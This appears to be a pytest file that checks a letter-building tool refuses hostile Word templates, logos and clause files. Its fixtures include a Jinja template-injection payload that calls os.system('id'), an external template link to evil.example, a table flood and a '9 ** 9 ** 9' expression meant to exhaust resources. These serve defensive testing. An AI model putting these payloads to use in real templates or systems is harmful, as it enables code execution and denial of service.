"""The worst of the hostile templates, logos and clauses, by the real command under watch."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest
from command_line import ENGLISH
from command_line import write as write_spec
from conftest import ROOT
from hostile_runner import run_limited
from hostile_word import changed, containers, in_body, letter_paper, tied
from houses import firm
from letterheads import picture

FLOOD = "<w:tbl>" + "<w:tr><w:tc><w:p/></w:tc></w:tr>" * 14_000 + "</w:tbl>"
TEMPLATES: dict[str, Callable[[], bytes]] = {
    "run": lambda: changed(
        in_body(
            "<w:p><w:r><w:t>{{ cycler.__init__.__globals__.os.system('id') }}</w:t></w:r></w:p>"
        ),
        tied("attachedTemplate", "http://evil.example/x.dotm", "External"),
    ),
    "parts": lambda: containers()["many thousands of parts"](letter_paper()),
}


@pytest.mark.parametrize("name", TEMPLATES)
def test_a_hostile_template_ends_in_a_clear_refusal(name: str, tmp_path: Path) -> None:
    (tmp_path / "house.docx").write_bytes(TEMPLATES[name]())
    spec = write_spec(tmp_path, ENGLISH)
    linted = run_limited(["templates", "lint", "house.docx"], tmp_path)
    assert (linted.faults(), linted.code) == ([], 1)
    assert "error[SG5" in linted.out
    command = ["build", spec.name, "--draft", "--word-template", "house.docx"]
    built = run_limited(command, tmp_path)
    assert (built.faults(), built.code) == ([], 1)
    assert built.written == frozenset()
    assert "error[SG5" in built.err


def test_a_template_with_as_much_as_it_may_have_is_tried_in_time(tmp_path: Path) -> None:
    (tmp_path / "house.docx").write_bytes(changed(in_body(FLOOD)))
    linted = run_limited(["templates", "lint", "house.docx"], tmp_path)
    assert linted.faults() == []


def test_a_template_without_end_is_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "house.docx")
    linted = run_limited(["templates", "lint", "house.docx"], tmp_path)
    assert (linted.faults(), linted.code, "SG500" in linted.out) == ([], 1, True)


def test_the_largest_logo_is_printed_within_the_limits(tmp_path: Path) -> None:
    spec = firm(tmp_path, "brand: {logo: logo.png, logo_alt: Linde}\n")
    (tmp_path / "logo.png").write_bytes(picture(3_160, 3_160))
    built = run_limited(["build", str(spec), "--draft"], tmp_path)
    assert (built.faults(), built.code) == ([], 0)


def test_a_hostile_logo_and_a_hostile_clause_stop_the_letter(tmp_path: Path) -> None:
    spec = firm(tmp_path, "brand: {logo: logo.svg, logo_alt: Linde}\n")
    drawing = ROOT / "tests" / "corpus" / "hostile" / "drawings" / "outside-pattern.svg"
    (tmp_path / "logo.svg").write_bytes(drawing.read_bytes())
    built = run_limited(["build", str(spec), "--draft"], tmp_path)
    assert (built.faults(), built.code, "SG577" in built.err) == ([], 1, True)
    place = tmp_path / "eigen" / "complaints"
    place.mkdir(parents=True)
    about = "part: finish\norder: 590\ndoes: {nl: Iets., en: Something.}\nfields: []\n"
    (place / "clause.yaml").write_text(about, encoding="utf-8")
    for language in ("nl", "en"):
        (place / f"{language}.md").write_text("# A\n\n{{ 9 ** 9 ** 9 }}\n", encoding="utf-8")
    firm(tmp_path, "clauses: {folder: eigen}\n")
    checked = run_limited(["check", str(spec)], tmp_path)
    assert (checked.faults(), checked.code) == ([], 1)
    assert "nl.md:3" in checked.out + checked.err
    assert "SG636" in checked.out + checked.err
